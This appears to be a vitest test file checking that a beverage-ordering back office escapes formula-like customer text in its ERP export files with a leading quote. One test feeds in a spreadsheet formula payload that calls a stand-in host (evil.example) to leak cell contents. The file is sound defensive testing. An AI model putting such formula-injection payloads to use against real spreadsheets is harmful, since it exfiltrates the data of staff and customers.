import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, signInAdmin, signInCustomer, TEST_NOW, type TestApp } from '#support/helpers.js';
import { validOrderBody } from '#support/order-fixtures.js';

// Staff open the ERP export files in spreadsheets: a customer's text must not become a formula
// there (issue 15, item 7; decision 023).
describe('formulas in the back-office export files', () => {
  let t: TestApp;
  let dir: string;
  beforeAll(async () => {
    dir = mkdtempSync(path.join(os.tmpdir(), 'bev-export-formulas-'));
    t = await createTestApp({
      config: { dataDir: dir, exportDir: path.join(dir, 'exports'), outboxDir: path.join(dir, 'outbox') },
    });
  });
  afterAll(async () => {
    await t.close();
    rmSync(dir, { recursive: true, force: true });
  });

  const exportLines = (orderNum: string) =>
    readFileSync(path.join(dir, 'exports', `${orderNum}.txt`), 'utf8')
      .split('\r\n')
      .filter(Boolean)
      .map((line) => line.split('\t'));

  it('writes an order named =HYPERLINK(...) with a leading quote, on POST Order and on Regenerate Orders', async () => {
    const cookie = await signInCustomer(t.app);
    const name = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';
    const body = { ...(await validOrderBody(t.db, 1001, TEST_NOW)), Name: name, Phone: '+1 312 555 0142' };
    const res = await t.app.inject({
      method: 'POST',
      url: '/api/v1/Order',
      payload: body,
      headers: { cookie },
    });
    expect(res.statusCode).toBe(201);
    const { OrderNum } = res.json();

    const check = () => {
      const lines = exportLines(OrderNum);
      expect(lines.length).toBeGreaterThan(0);
      for (const cols of lines) {
        expect(cols[5]).toBe(`'${name}`);
        // What the ERP reads as numbers, dates and digits is unchanged.
        expect(cols[0]).toMatch(/^\d\d\/\d\d\/\d{4}$/);
        expect(cols[1]).toBe('1001');
        expect(cols[3]).toMatch(/^\d\d\/\d\d\/\d{4}$/);
        expect(cols[6]).toBe('3125550142');
        for (const n of cols.slice(10, 13)) expect(n).toMatch(/^\d+$/);
        expect(cols[13]).toBe('');
        for (const col of cols) expect(col).not.toMatch(/^[=+\-@\t\r]/);
      }
    };
    check();

    const admin = await signInAdmin(t.app);
    const list = await t.app.inject({
      method: 'GET',
      url: '/api/v1/Orders/1001',
      headers: { cookie: admin },
    });
    const id = list.json().Orders.find((o: { OrderNum: string }) => o.OrderNum === OrderNum).Id;
    rmSync(path.join(dir, 'exports', `${OrderNum}.txt`));
    const regen = await t.app.inject({
      method: 'POST',
      url: '/api/v1/RegenerateOrders',
      payload: [id],
      headers: { cookie: admin },
    });
    expect(regen.statusCode).toBe(200);
    check();
  });

  it("writes a reference customer's PO that starts like a formula with a leading quote (issue 17)", async () => {
    const cookie = await signInCustomer(t.app, 6001, 60611);
    const body = { ...(await validOrderBody(t.db, 6001, TEST_NOW)), ReferencePO: '@SUM(A1:A9)' };
    const res = await t.app.inject({
      method: 'POST',
      url: '/api/v1/Order',
      payload: body,
      headers: { cookie },
    });
    expect(res.statusCode).toBe(201);
    for (const cols of exportLines(res.json().OrderNum)) expect(cols[13]).toBe("'@SUM(A1:A9)");
  });
});
